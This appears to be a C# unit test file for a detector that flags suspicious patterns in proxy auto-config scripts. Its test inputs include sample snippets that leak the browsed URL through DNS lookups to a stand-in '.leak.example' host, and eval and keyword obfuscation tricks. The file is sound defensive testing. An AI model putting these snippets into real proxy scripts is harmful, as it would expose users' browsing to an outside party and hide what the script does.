using Sensor.Detection.Pac;

namespace Sensor.Detection.Tests.Pac;

public sealed class PacReaderTests
{
    [Theory]
    [InlineData("eval('x')", PacSignKind.RunsText)]
    [InlineData("new Function('return 1')()", PacSignKind.RunsText)]
    [InlineData("this['ev' + 'al']('x')", PacSignKind.RunsText)]
    [InlineData("[].constructor.constructor('x')()", PacSignKind.RunsText)]
    [InlineData("unescape('%41')", PacSignKind.EncodedText)]
    [InlineData("String.fromCharCode(80, 82)", PacSignKind.EncodedText)]
    [InlineData("atob('UFJPWFk=')", PacSignKind.EncodedText)]
    [InlineData(@"'\x50\x52\x4f\x58\x59\x20\x61\x2e\x62'", PacSignKind.EncodedText)]
    [InlineData("'PR' + 'OXY a.b:1'", PacSignKind.BuiltKeyword)]
    [InlineData("['PRO', 'XY'].join('') + h", PacSignKind.BuiltKeyword)]
    [InlineData("'YXORP'.split('').reverse().join('')", PacSignKind.BuiltKeyword)]
    [InlineData("dnsResolve(u + '.leak.example')", PacSignKind.UrlLookedUp)]
    [InlineData("isInNet(u.replace(/x/g, '-'), '10.0.0.0', '255.0.0.0')", PacSignKind.UrlLookedUp)]
    [InlineData("dnsResolveEx(`${encodeURIComponent(u)}.leak.example`)", PacSignKind.UrlLookedUp)]
    [InlineData("dnsResolve(h + '.corp.example')", PacSignKind.HostLookedUp)]
    [InlineData("new ActiveXObject('x')", PacSignKind.ForeignObject)]
    [InlineData("timeRange(8, 17)", PacSignKind.Calendar)]
    [InlineData("new Date()", PacSignKind.Calendar)]
    [InlineData("dnsResolve = function (x) { return x; }", PacSignKind.ReplacesBuiltIn)]
    public void Notes(string expression, PacSignKind expected)
    {
        var signs = PacReader.Read($"function FindProxyForURL(u, h) {{\n  var x = {expression};\n}}").Signs;
        Assert.Contains(signs, sign => sign.Kind == expected && sign.Line == 2);
    }

    [Theory]
    [InlineData("dnsResolve(h)")]
    [InlineData("isInNet(h, '10.0.0.0', '255.0.0.0')")]
    [InlineData("isInNet(dnsResolve(h), '10.0.0.0', '255.0.0.0')")]
    [InlineData("isResolvable(h.toLowerCase())")]
    [InlineData("dnsResolve(u.split('/')[2])")]
    [InlineData("dnsResolve(u.substring(7))")]
    [InlineData("'PROXY ' + p + ':8080'")]
    [InlineData("'PROXY a.example:8080' + '; DIRECT'")]
    [InlineData("shExpMatch(u, 'http://*.example.com/*')")]
    [InlineData("myIpAddress() + h + u")]
    [InlineData("'Grüße aus Köln'")]
    public void Leaves_ordinary_code_alone(string expression) =>
        Assert.Empty(PacReader.Read($"function FindProxyForURL(u, h) {{ var p = 'a'; var x = {expression}; }}").Signs);

    [Fact]
    public void Follows_the_url_through_variables() => Assert.Contains(
        PacReader.Read("function FindProxyForURL(a, b) { var t = a.replace(/[^a-z]/g, '-'); var n = t.substr(0, 60); return isResolvable(n); }").Signs,
        sign => sign.Kind == PacSignKind.UrlLookedUp);

    [Fact]
    public void Tells_functions_hosts_proxies_and_built_texts()
    {
        var reading = PacReader.Read(
            "function FindProxyForURL(u, h) { if (dnsDomainIs(h, '.corp.example') || shExpMatch(u, 'http://*.mybank.example/*')) return 'DIR' + 'ECT';\n"
            + "return 'SOCKS5 ' + '10.0.0.6:1080'; }");
        Assert.Equal(["dnsDomainIs", "shExpMatch"], reading.Functions);
        Assert.Equal([".corp.example", "*.mybank.example"], reading.Hosts);
        Assert.Equal([new PacProxy("SOCKS5", "10.0.0.6", 1080)], reading.Proxies);
        Assert.Equal(["DIRECT", "SOCKS5 10.0.0.6:1080"], reading.BuiltTexts);
    }

    [Theory]
    [InlineData("")]
    [InlineData("function (")]
    [InlineData("\0\u001b[31m")]
    public void Reads_nothing_where_nothing_parses(string source) => Assert.Empty(PacReader.Read(source).Functions);

    [Fact]
    public void Survives_deep_nesting_and_every_prefix_of_a_script()
    {
        PacReader.Read("var x = " + new string('(', 100_000) + "1" + new string(')', 100_000));
        PacReader.Read("var x = 1" + string.Concat(Enumerable.Repeat(" + 1", 50_000)));
        const string Script = "function FindProxyForURL(u, h) { return eval(unescape('%41')) + `${u}` + ['a', \"b\"].join('') + /x+/.test(h) + atob('!'); }";
        for (var length = 0; length <= Script.Length; length++)
            PacReader.Read(Script[..length]);
    }

    [Fact]
    public void Keeps_a_bounded_number_of_everything()
    {
        var lines = string.Concat(Enumerable.Range(0, 1000).Select(i => $"f{i}('h{i}.example', 'PROXY p{i}.example:1', eval('x'));\n"));
        var reading = PacReader.Read(lines);
        Assert.All([reading.Functions.Length, reading.Hosts.Length, reading.Proxies.Length, reading.Signs.Length],
            count => Assert.InRange(count, 1, PacReading.MostEntries));
    }
}
